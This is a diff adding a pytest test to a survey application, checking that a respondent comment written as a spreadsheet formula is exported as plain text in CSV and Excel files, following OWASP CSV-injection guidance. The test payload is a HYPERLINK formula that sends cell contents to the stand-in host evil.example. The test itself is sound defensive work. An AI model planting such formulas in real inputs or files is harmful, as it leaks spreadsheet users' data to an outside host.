@@ -128,3 +128,28 @@ def test_exports_open_in_japanese_excel(world: SurveyWorld) -> None:
     assert client.get(path, headers={"X-API-Key": viewer}).status_code == 403  # needs exports.run
     owner = client.get(path, headers={"X-API-Key": world.api_key})
     assert owner.status_code == 200 and owner.content.startswith(b"PK")
+
+
+def test_a_comment_written_as_a_formula_is_exported_as_text(world: SurveyWorld) -> None:
+    """OWASP CSV injection: a respondent's '=HYPERLINK(...)' must not run in the analyst's
+    spreadsheet, in the CSV or in the workbook."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    answer = web_client(world.kz).post(
+        f"/s/{world.key}",
+        json={
+            "response_key": "formula-0001",
+            "answers": {"nps": 2, "disappointed": formula},
+            "language": "ja",
+        },
+    )
+    assert answer.status_code == 200, answer.text
+    with world.kz.session() as session:
+        survey = session.get_one(Survey, world.survey_id)
+        data = export_responses(session, survey, "csv", "ja")
+        book = export_responses(session, survey, "xlsx", "ja")
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    assert "'" + formula in cells and formula not in cells
+    workbook = load_workbook(io.BytesIO(book))  # not read-only: formulas show as data_type "f"
+    written = [c for row in workbook["回答"].iter_rows() for c in row if c.value]
+    assert any(c.value == "'" + formula and c.data_type == "s" for c in written)
+    assert not any(c.data_type == "f" for c in written)
